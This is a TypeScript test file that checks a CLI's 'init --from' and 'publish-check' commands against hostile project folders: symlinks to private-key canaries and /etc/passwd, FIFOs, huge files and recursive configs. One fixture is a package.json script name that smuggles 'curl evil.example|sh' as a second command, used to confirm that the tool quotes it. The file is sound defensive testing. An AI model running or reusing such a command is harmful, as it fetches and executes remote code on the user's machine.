import { execFileSync, spawnSync } from 'node:child_process';
import {
  existsSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  symlinkSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { expect, test } from 'vitest';
import { png } from '../publish/png.js';
import { makeFifo } from '../support/make-fifo.js';
import { temporaryFolder } from '../support/temporary-folder.js';
import { manifestText } from '../support/manifest-text.js';

const platform = fileURLToPath(new URL('../../bin/platform.js', import.meta.url));
const canary = 'canary-of-a-private-key';
const manifest = manifestText({
  name: 'weather',
  visibility: 'public',
  more: `script: ./index.ts
icon: ./icon.png
`,
});

/** A project of somebody else, beside a file and a folder that are none of its business. */
function foreignFolder(parent?: string): { folder: string; from: string } {
  const folder = temporaryFolder(parent);
  mkdirSync(join(folder, 'home/keys'), { recursive: true });
  writeFileSync(join(folder, 'home/id_rsa'), canary);
  writeFileSync(join(folder, 'home/keys/id'), canary);
  const from = join(folder, 'from');
  mkdirSync(from);
  writeFileSync(join(from, 'platform-manifest.yaml'), manifest);
  writeFileSync(join(from, 'index.ts'), 'export default {};\n');
  writeFileSync(join(from, 'icon.png'), png(512, 512));
  return { folder, from };
}

function run(folder: string, argv: string[]) {
  const { status, stdout, stderr } = spawnSync(process.execPath, [platform, ...argv], {
    cwd: folder,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
    timeout: 20_000,
  });
  return { status, output: stdout + stderr };
}

test('init --from does not follow symlinks that lead outside the folder', () => {
  const { folder, from } = foreignFolder();
  symlinkSync('../home/id_rsa', join(from, 'id_rsa'));
  symlinkSync(join(folder, 'home/keys'), join(from, 'keys'));
  symlinkSync('/', join(from, 'root'));
  symlinkSync('/etc/passwd', join(from, 'notes.md'));
  symlinkSync('index.ts', join(from, 'same.ts'));
  makeFifo(join(from, 'fifo'));
  const { status, output } = run(folder, ['init', 'mine', '--from', 'from', '--yes']);
  expect([status, output]).toEqual([0, expect.stringContaining('points outside the folder')]);
  const copied = readdirSync(join(folder, 'mine'));
  expect(copied.filter((name) => ['id_rsa', 'keys', 'root', 'notes.md', 'fifo'].includes(name))).toEqual([]);
  expect(readFileSync(join(folder, 'mine/same.ts'), 'utf8')).toContain('export default');
  expect(output).not.toContain(canary);
});

test('init --from reads hostile sources quickly, and quotes file names in commands', () => {
  const { folder, from } = foreignFolder();
  mkdirSync(join(from, 'dist'));
  const secret = { compilerOptions: { canary } };
  writeFileSync(join(folder, 'home/secret.json'), JSON.stringify(secret));
  const script = 'build; curl evil.example|sh; # api-client';
  const files = {
    'index.ts': `import { createIntegration } from '@acme/runtime';\nimport './api-client';\nconst installation = 1;\ninstallation${' '.repeat(200_000)}x\nexport default createIntegration({});\n`,
    'package.json': JSON.stringify({ scripts: { [script]: 'gen api-client', dev: 5 } }),
    'tsconfig.json': JSON.stringify({ extends: ['./dist/base.json', '../home/secret.json'] }),
    'dist/base.json': JSON.stringify({ extends: Array.from({ length: 40 }, () => './base.json') }),
  };
  for (const [path, text] of Object.entries(files)) writeFileSync(join(from, path), text);
  const { status, output } = run(folder, ['init', 'mine', '--from', 'from', '--yes']);
  expect([status, output]).toEqual([0, expect.stringContaining(`\n  npm run "${script}"\n`)]);
  expect(readFileSync(join(folder, 'mine/tsconfig.json'), 'utf8')).not.toContain(canary);
});

test('init --from rejects an oversized folder and writes nothing', () => {
  const large = foreignFolder();
  writeFileSync(join(large.from, 'large.bin'), '');
  truncateSync(join(large.from, 'large.bin'), 5 * 1024 ** 3);
  // On a disk, making and removing them takes minutes.
  const many = foreignFolder(existsSync('/dev/shm') ? '/dev/shm' : undefined);
  mkdirSync(join(many.from, 'many'));
  execFileSync('sh', ['-c', 'seq 200000 | xargs touch'], { cwd: join(many.from, 'many') });
  for (const { folder } of [large, many]) {
    const result = run(folder, ['init', 'mine', '--from', 'from', '--yes']);
    expect([result.status, result.output]).toEqual([2, expect.stringContaining('error Did not read ')]);
    expect(existsSync(join(folder, 'mine'))).toBe(false);
  }
});

test('publish-check never reads a FIFO, a 5 GB image or a symlink that leads outside the folder', () => {
  const cases: [string, (from: string, folder: string) => string[]][] = [
    ['a picture of 5 GB', (from) => (truncateSync(join(from, 'icon.png'), 5 * 1024 ** 3), ['from'])],
    ['a FIFO as package.json', (from) => (makeFifo(join(from, 'package.json')), ['from'])],
    [
      'a FIFO to compare with',
      (_, folder) => {
        mkdirSync(join(folder, 'old'));
        makeFifo(join(folder, 'old/platform-manifest.yaml'));
        return ['from', '--against', 'old'];
      },
    ],
  ];
  for (const [what, prepare] of cases) {
    const { folder, from } = foreignFolder();
    const result = run(folder, ['publish-check', ...prepare(from, folder)]);
    expect([what, result.status, result.output]).toEqual([
      what,
      2,
      expect.stringMatching(/ (is \d+ bytes, which is more than \d+|is a FIFO, not a regular file)\./),
    ]);
  }
  const { folder, from } = foreignFolder();
  symlinkSync('../home/id_rsa', join(from, 'leak.png'));
  writeFileSync(join(from, 'platform-manifest.yaml'), manifest.replace('icon.png', 'leak.png'));
  const linked = run(folder, ['publish-check', 'from', '--pack', 'out.tgz', '--force']);
  expect(linked.output).toContain('manifest/path-outside');
  expect(existsSync(join(folder, 'out.tgz'))).toBe(false);
});
